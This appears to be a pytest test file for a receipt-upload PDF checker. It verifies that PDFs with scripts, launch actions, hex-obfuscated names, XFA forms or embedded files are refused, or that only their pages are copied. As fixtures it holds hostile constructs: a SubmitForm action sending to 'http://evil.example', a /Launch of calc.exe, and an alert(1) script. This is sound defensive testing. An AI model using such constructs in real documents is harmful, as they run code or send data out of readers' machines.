"""PDFs with active or hidden parts: refused, or copied as pages alone."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from backend.receipts.checking import pdf
from backend.receipts.checking.images import Refused
from backend.receipts.checking.refusals import Refusal
from tests.unit.receipts import pictures
from tests.unit.receipts.pictures import attachment, script

ACTIVE = {
    "a script when it opens": {"OpenAction": script()},
    "a program when it opens": {"OpenAction": script("/Launch")},
    "a script by name": {"Names": Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))},
    "a form of scripts": {"AcroForm": Dictionary(XFA=String("<xdp/>"), Fields=Array([]))},
    "a script deep inside": {"AA": Dictionary(WC=Array([Array([Dictionary(Next=script())])]))},
    "a film": {"Extra": Dictionary(Subtype=Name.RichMedia)},
    "a form that is sent away": {"OpenAction": Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))},
    "a jump into an attachment": {"OpenAction": Dictionary(S=Name.GoToE)},
}


def refusal(data: bytes) -> Refusal:
    with pytest.raises(Refused) as refused:
        pdf.read(data)
    return refused.value.refusal


@pytest.mark.parametrize("root", ACTIVE.values(), ids=ACTIVE)
def test_a_pdf_with_an_active_part_is_refused(root: dict[str, object]) -> None:
    assert refusal(pictures.pdf(**root)) is Refusal.ACTIVE


def test_a_name_written_in_hexadecimal_is_the_same_name() -> None:
    data = pictures.pdf(OpenAction=Dictionary(S=Name("/Launch"), F=String("calc.exe")))
    assert b"/Launch" in data
    assert refusal(data.replace(b"/Launch", b"/L#61unch")) is Refusal.ACTIVE


def test_a_script_in_a_note_of_a_page_is_refused() -> None:
    document = Pdf.open(io.BytesIO(pictures.pdf()))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=script())
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])
    target = io.BytesIO()
    document.save(target)
    assert refusal(target.getvalue()) is Refusal.ACTIVE


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (pictures.pdf(encrypted=True), Refusal.ENCRYPTED),
        (pictures.pdf(pages=0), Refusal.EMPTY),
        (pictures.pdf(pages=pdf.MAX_PAGES + 1), Refusal.TOO_LARGE),
        (b"%PDF-1.7\n<html><script>alert(1)</script></html>" * 20, Refusal.DAMAGED),
        (b"%PDF-1.7\n" + b"\0" * 500, Refusal.DAMAGED),
        (b"%PDF-1.7\n%%EOF\n", Refusal.DAMAGED),
    ],
    ids=["encrypted", "no page", "too many pages", "html", "zeros", "no object"],
)
def test_a_pdf_that_is_no_readable_receipt_is_refused(data: bytes, expected: Refusal) -> None:
    assert refusal(data) is expected


def test_the_copy_has_the_pages_and_neither_attachments_nor_metadata() -> None:
    data = pictures.pdf(Names=attachment(), PieceInfo=Dictionary(a=String("SECRET")))
    assert b"SECRET" in data
    kind, copy = pdf.read(data)
    assert kind == "application/pdf"
    assert not [word for word in (b"SECRET", b"EmbeddedFile", b"/Names", b"Exif", b"xmpmeta") if word in copy]
    with Pdf.open(io.BytesIO(copy)) as document:
        assert set(document.Root.keys()) == {"/Type", "/Pages"}
        picture = document.pages[0].obj.Resources.XObject.Im0
        assert pikepdf.PdfImage(picture).as_pil_image().size == (48, 32)
        assert b"/Im0 Do" in document.pages[0].obj.Contents.read_bytes()


def test_what_is_typed_into_a_form_stays_visible_and_the_form_goes() -> None:
    document = Pdf.open(io.BytesIO(pictures.pdf()))
    look = document.make_stream(b"BT (42.00 EUR) Tj ET", Type=Name.XObject, Subtype=Name.Form)
    look.BBox = Array([0, 0, 90, 20])
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"), V=String("42.00 EUR"),
            Rect=Array([10, 10, 100, 30]), AP=Dictionary(N=look), F=4,
        )
    )  # fmt: skip
    document.pages[0].obj.Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))
    target = io.BytesIO()
    document.save(target)
    _, copy = pdf.read(target.getvalue())
    with Pdf.open(io.BytesIO(copy)) as copied:
        assert "/Annots" not in copied.pages[0].obj and "/AcroForm" not in copied.Root
        streams = [item for item in copied.objects if isinstance(item, pikepdf.Stream)]
        drawn = [item.read_bytes() for item in streams if item.get("/Filter") != Name.DCTDecode]
    assert any(b"42.00 EUR" in content for content in drawn)


def test_objects_that_refer_to_one_another_end() -> None:
    document = Pdf.open(io.BytesIO(pictures.pdf()))
    ring = document.make_indirect(Dictionary(Name="one"))
    ring.Other = document.make_indirect(Dictionary(Other=ring))
    document.pages[0].obj.Resources.Ring = ring
    document.pages[0].obj.Parent.Parent = document.pages[0].obj.Parent
    target = io.BytesIO()
    document.save(target)
    assert pdf.read(target.getvalue())[0] == "application/pdf"
